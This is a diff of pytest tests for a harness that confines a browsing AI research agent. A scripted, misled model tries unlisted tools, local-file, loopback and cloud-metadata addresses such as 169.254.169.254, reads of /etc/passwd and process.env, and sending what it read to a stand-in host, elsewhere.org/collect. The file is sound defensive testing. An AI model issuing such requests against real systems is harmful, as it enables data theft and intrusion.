@@ -4,6 +4,7 @@ from __future__ import annotations
 
 import json
 import re
+from collections.abc import Sequence
 from urllib.parse import quote
 
 import pytest
@@ -20,81 +21,88 @@ from loopback_model.researching import (
     see_more,
     shown,
     snapshot,
+    tool_call,
 )
 from loopback_web import answer
-from research_lab import COURSE, NIGHTS, NOVA, PAY, START, Lab, page
+from research_lab import COURSE, NOVA, PAY, START, Lab, page
 
 ALL_PAGES = [START, f"{START}welder-pay", f"{START}welder-training"]
 SECRET = "what-was-read"
 
 
-@pytest.mark.parametrize(
-    ("name", "arguments"),
-    [
-        ("browser_evaluate", {"function": "() => fetch('https://elsewhere.org/')"}),
-        ("browser_file_upload", {"paths": ["/etc/passwd"]}),
-        ("browser_run_code_unsafe", {"code": "process.env"}),
-        ("browser_click", {"target": "e1"}),
-        ("browser_type", {"text": "hello", "submit": True}),
-        ("browser_network_requests", {}),
-        ("browser_tabs", {"action": "new", "url": "https://elsewhere.org/"}),
-        ("final_answer", {"claim": "Welders fly."}),
-    ],
+UNLISTED = (
+    tool_call("browser_evaluate", function="() => fetch('https://elsewhere.org/')"),
+    tool_call("browser_file_upload", paths=["/etc/passwd"]),
+    tool_call("browser_run_code_unsafe", code="process.env"),
+    tool_call("browser_click", target="e1"),
+    tool_call("browser_type", text="hello", submit=True),
+    tool_call("browser_network_requests"),
+    tool_call("browser_tabs", action="new", url="https://elsewhere.org/"),
+    tool_call("final_answer", claim="Welders fly."),
 )
-def test_tools_that_are_not_offered_do_not_exist(
-    lab: Lab, name: str, arguments: dict[str, object]
-) -> None:
-    mind = Misled(open_first, call_tools(ToolCall("tooluse_1", name, arguments)), then=read)
+
+
+def test_tools_that_are_not_offered_do_not_exist(lab: Lab) -> None:
+    mind = Misled(open_first, call_tools(*UNLISTED), then=read)
     outcome = lab.run(mind)
-    assert any(text.startswith("There is no such tool") for text in mind.told)
-    assert outcome.addresses[0] == START
-    assert set(lab.web.paths()) <= {url.removeprefix("https://") for url in ALL_PAGES}
-    assert outcome.visits.usage.fallback is None, "one wrong call is forgiven"
+    assert len(mind.answers[2]) == len(UNLISTED)
+    assert all(text.startswith("There is no such tool") for text in mind.answers[2])
+    assert outcome.addresses == ALL_PAGES
+    assert set(lab.web.paths()) == {url.removeprefix("https://") for url in ALL_PAGES}
+    assert outcome.visits.usage.fallback is None, "this much is forgiven"
 
 
-@pytest.mark.parametrize(
-    "address",
-    [
+NOT_SHOWN = {
+    "no pages": (
         "file:///etc/passwd",
         "data:text/html,<h1>Welder</h1>",
         "javascript:alert(1)",
         "about:blank",
         "chrome://settings",
         "view-source:https://jobs.example.com/",
+        "//jobs.example.com/welder-pay",
+        "/welder-pay",
+        "",
+        "https://jobs.example.com/" + "x" * 9_000,
+    ),
+    "this machine": (
         "http://127.0.0.1:8080/",
         "http://[::1]/",
         "http://localhost/admin",
         "http://169.254.169.254/latest/meta-data/",
         "http://10.0.0.7/",
         "http://2130706433/",
+    ),
+    "others": (
         "https://elsewhere.org/",
         "https://jobs.example.com.elsewhere.org/",
         "https://user:secret@jobs.example.com/",
         "https://jobs.example.com:8443/",
         "https://jobs.example.com/never-shown",
         "https://jobs.example.com/welder-pay/../staff",
-        "//jobs.example.com/welder-pay",
-        "/welder-pay",
-        "",
-        "https://jobs.example.com/" + "x" * 9_000,
-    ],
-)
-def test_an_address_that_was_not_shown_is_not_opened(lab: Lab, address: str) -> None:
-    mind = Misled(open_first, call_tools(navigate(address)))
-    outcome = lab.run(mind)
-    assert mind.told[1].startswith("Only addresses that you were shown")
-    assert "welder-pay" in mind.told[1], "and it is told which these are"
-    assert address not in outcome.addresses
-    assert set(outcome.addresses) <= set(ALL_PAGES)
-    assert set(lab.web.paths()) <= {url.removeprefix("https://") for url in ALL_PAGES}
+    ),
+}
 
 
-@pytest.mark.parametrize("address", [None, 7, ["https://jobs.example.com/"], {"url": START}, True])
-def test_an_address_of_another_type_is_told_so(lab: Lab, address: object) -> None:
-    mind = Misled(call_tools(navigate(address)), open_first)
+@pytest.mark.parametrize("kind", NOT_SHOWN)
+def test_an_address_that_was_not_shown_is_not_opened(lab: Lab, kind: str) -> None:
+    addresses = NOT_SHOWN[kind]
+    mind = Misled(open_first, call_tools(*map(navigate, addresses)))
     outcome = lab.run(mind)
-    assert mind.told[0] == "Give the address to open as `url`, a text."
-    assert outcome.addresses[0] == START
+    assert len(mind.answers[2]) == len(addresses)
+    for said in mind.answers[2]:
+        assert said.startswith("Only addresses that you were shown")
+        assert "https://jobs.example.com/welder-pay" in said, "and it is told which these are"
+    assert outcome.addresses == ALL_PAGES
+    assert set(lab.web.paths()) == {url.removeprefix("https://") for url in ALL_PAGES}
+
+
+def test_an_address_of_another_type_is_told_so(lab: Lab) -> None:
+    others = [None, 7, ["https://jobs.example.com/"], {"url": START}, True]
+    mind = Misled(call_tools(*map(navigate, others)), open_first)
+    outcome = lab.run(mind)
+    assert mind.answers[1] == ("Give the address to open as `url`, a text.",) * len(others)
+    assert outcome.addresses == ALL_PAGES
 
 
 def test_what_was_read_cannot_be_put_into_an_address(lab: Lab) -> None:
@@ -118,7 +126,7 @@ def test_what_was_read_cannot_be_put_into_an_address(lab: Lab) -> None:
             f"https://elsewhere.org/collect?read={secret}",
             "https://elsewhere.org/collect",
         )
-        return call_tools(*(navigate(url, number) for number, url in enumerate(tries)))
+        return call_tools(*map(navigate, tries))
 
     outcome = lab.run(Misled(open_first, obey, then=read))
     gone_out = json.dumps([[item.host, item.path, item.headers] for item in lab.web.asked])
@@ -154,7 +162,7 @@ def test_a_run_opens_no_more_pages_than_its_budget(lab: Lab) -> None:
 def test_one_page_is_opened_per_answer(lab: Lab) -> None:
     def greedy(call: Call) -> Answer:
         every = [*shown(call).addresses, f"{START}a", f"{START}b"]
-        return call_tools(*(navigate(url, n) for n, url in enumerate(every)))
+        return call_tools(*map(navigate, every))
 
     mind = Misled(open_first, greedy)
     lab.run(mind)
@@ -165,7 +173,7 @@ def test_one_page_is_opened_per_answer(lab: Lab) -> None:
 
 
 def test_the_same_page_for_ever_is_opened_once(lab: Lab) -> None:
-    outcome = lab.run(lambda call: call_tools(navigate(START, call.number)))
+    outcome = lab.run(lambda call: call_tools(navigate(START)))
     assert outcome.addresses.count(START) == 1
     assert outcome.visits.usage.fallback == "model_unusable"
     assert len(lab.model.calls) < 20
@@ -173,7 +181,7 @@ def test_the_same_page_for_ever_is_opened_once(lab: Lab) -> None:
     assert outcome.ending == "done"
 
 
-@pytest.mark.parametrize("call_one", [see_more, lambda c: call_tools(ToolCall("t", "x_tool", {}))])
+@pytest.mark.parametrize("call_one", [see_more, lambda call: call_tools(tool_call("x_tool"))])
 def test_calls_without_end_come_to_one(lab: Lab, call_one: object) -> None:
     outcome = lab.run(call_one)
     assert len(lab.model.calls) < 20
@@ -183,7 +191,7 @@ def test_calls_without_end_come_to_one(lab: Lab, call_one: object) -> None:
 
 def test_many_calls_in_one_answer_are_bounded(lab: Lab) -> None:
     def flood(call: Call) -> Answer:
-        return call_tools(*(note("welder", PAY, number=n) for n in range(300)))
+        return call_tools(*(note("welder", PAY) for _ in range(300)))
 
     outcome = lab.run(Misled(open_first, open_first, flood))
     assert [finding.quote for finding in outcome.findings].count(PAY) == 1
@@ -196,8 +204,8 @@ def test_notes_of_one_answer_belong_to_the_page_that_was_open_when_they_were_mad
 ) -> None:
     def both(call: Call) -> Answer:
         onward = f"{START}welder-training"
-        calls = (note("welder", PAY, number=1), navigate(onward), note("welder", PAY, number=2))
-        return call_tools(*calls, note("welder", COURSE, number=3))
+        calls = (note("welder", PAY), navigate(onward), note("welder", PAY))
+        return call_tools(*calls, note("welder", COURSE))
 
     mind = Misled(open_first, call_tools(navigate(f"{START}welder-pay")), both)
     outcome = lab.run(mind)
@@ -209,46 +217,54 @@ def test_notes_of_one_answer_belong_to_the_page_that_was_open_when_they_were_mad
     assert said[2].startswith("The quote does not stand on the open page")
 
 
-WRONG = {
-    "no page is open": (0, note("welder", PAY), "No page is open"),
-    "a quote of another page": (2, note("welder", COURSE), "The quote does not stand on the"),
-    "a quote that was changed": (
-        2,
-        note("welder", PAY.replace("31,000", "41,000")),
-        "The quote does not stand on the open page",
-    ),
-    "part of a number": (2, note("welder", "1,000 a year on average."), "The quote does not stand"),
-    "another topic": (2, note("astronaut", PAY), "The topic must be one of: welder; MIG welding"),
-    "another kind": (2, note("welder", PAY, kind="gossip"), "kind: "),
-    "no kind": (2, note("welder", PAY, kind=None), "kind: "),
-    "a claim of 10,000 characters": (2, note("welder", PAY, claim="x" * 10_000), "claim: "),
-    "a quote of 10,000 characters": (2, note("welder", "x" * 10_000), "quote: "),
-    "a topic of 10,000 characters": (2, note("x" * 10_000, PAY), "topic: "),
-    "a claim of a word": (2, note("welder", PAY, claim="Pay"), "claim: "),
-    "a claim that is a list": (2, note("welder", PAY, claim=[PAY]), "claim: "),
-    "a quote that is an object": (2, note("welder", {"a": PAY}, claim=PAY), "quote: "),
-    "more than certain": (2, note("welder", PAY, confidence=7), "confidence: "),
-    "less than nothing": (2, note("welder", PAY, confidence=-1), "confidence: "),
-    "certainty in words": (2, note("welder", PAY, confidence="high"), "confidence: "),
-    "a page of its own choosing": (2, note("welder", PAY, url=START), "There are no fields but"),
-    "a state of its own": (2, note("welder", PAY, state="published"), "There are no fields but"),
-    "nothing at all": (2, ToolCall("t", STORE, {}), "topic: "),
-}
+NOT_ON_THE_PAGE = (
+    (note("welder", COURSE), "The quote does not stand on the open page"),
+    (note("welder", PAY.replace("31,000", "41,000")), "The quote does not stand on the open page"),
+    (note("welder", "1,000 a year on average."), "The quote does not stand on the open page"),
+    (note("astronaut", PAY), "The topic must be one of: welder; MIG welding."),
+    (note("welder", PAY, kind="gossip"), "kind: "),
+    (note("welder", PAY, kind=None), "kind: "),
+    (note("welder", PAY, url=START), "There are no fields but topic, kind, claim, "),
+    (note("welder", PAY, state="published"), "There are no fields but topic, kind, claim, "),
+    (tool_call(STORE), "topic: "),
+)
+NOT_WITHIN_BOUNDS = (
+    (note("welder", PAY, claim="x" * 10_000), "claim: "),
+    (note("welder", "x" * 10_000, claim=PAY), "quote: "),
+    (note("x" * 10_000, PAY), "topic: "),
+    (note("welder", PAY, claim="Pay"), "claim: "),
+    (note("welder", PAY, claim=[PAY]), "claim: "),
+    (note("welder", {"a": PAY}, claim=PAY), "quote: "),
+    (note("welder", PAY, confidence=7), "confidence: "),
+    (note("welder", PAY, confidence=-1), "confidence: "),
+    (note("welder", PAY, confidence="high"), "confidence: "),
+)
 
 
-@pytest.mark.parametrize("case", WRONG)
-def test_what_is_no_finding_of_the_open_page_is_not_noted(lab: Lab, case: str) -> None:
-    pages, call, told = WRONG[case]
-    go = (open_first, call_tools(navigate(f"{START}welder-pay")))[:pages]
-    mind = Misled(*go, call_tools(call), then=read)
+@pytest.mark.parametrize("cases", [NOT_ON_THE_PAGE, NOT_WITHIN_BOUNDS], ids=["page", "bounds"])
+def test_what_is_no_finding_of_the_open_page_is_not_noted(
+    lab: Lab, cases: Sequence[tuple[ToolCall, str]]
+) -> None:
+    go = call_tools(navigate(f"{START}welder-pay"))
+    mind = Misled(open_first, go, call_tools(*(call for call, _ in cases)), then=read)
     outcome = lab.run(mind)
-    [said] = mind.answers[pages + 1]
-    assert said.startswith(told)
-    assert len(said) < 400, "what was wrong is not said back"
-    assert set(outcome.quotes) <= {PAY, COURSE, NIGHTS}
-    assert all(len(finding.claim) <= 500 for finding in outcome.findings)
-    assert outcome.quotes[COURSE] == NOVA, "and it has gone on"
+    said = mind.answers[3]
+    assert len(said) == len(cases)
+    for answered, (_, told) in zip(said, cases, strict=True):
+        assert answered.startswith(told)
+        assert len(answered) < 400, "what was wrong is not said back"
+    assert set(outcome.quotes) == {COURSE}
+    assert outcome.quotes[COURSE] == NOVA, "it has gone on"
     assert not lab.model.refused
+
+
+def test_nothing_is_noted_before_a_page_is_open(lab: Lab) -> None:
+    mind = Misled(call_tools(note("welder", PAY), snapshot()), then=read)
+    outcome = lab.run(mind)
+    assert mind.answers[1][0] == "No page is open. Open one first, then note what stands on it."
+    assert mind.answers[1][1].startswith("No page is open.")
+    assert outcome.addresses == ALL_PAGES
+    assert outcome.quotes[PAY] == NOVA
 
 
 def test_long_arguments_are_not_sent_again(lab: Lab) -> None:
@@ -264,7 +280,7 @@ def test_arguments_that_are_no_json_cost_one_call(lab: Lab) -> None:
         function = {"name": STORE, "arguments": arguments}
         go = {"name": "browser_navigate", "arguments": arguments}
         calls = [
-            {"id": f"call_{name['name']}", "type": "function", "function": name}
+            {"id": f"call_{arguments}_{name['name']}", "type": "function", "function": name}
             for name in (function, go)
         ]
         message = {"role": "assistant", "content": None, "tool_calls": calls}
@@ -292,7 +308,7 @@ def test_only_findings_that_fit_on_a_page_are_taken(lab: Lab) -> None:
     lab.web.put("jobs.example.com/welder-pay", answer(page(*facts)))
 
     def all_of(call: Call) -> Answer:
-        return call_tools(*(note("welder", fact, number=n) for n, fact in enumerate(facts)))
+        return call_tools(*(note("welder", fact) for fact in facts))
 
     go = call_tools(navigate(f"{START}welder-pay"))
     outcome = lab.run(Misled(open_first, go, all_of, all_of, then=Answer(text="DONE")))
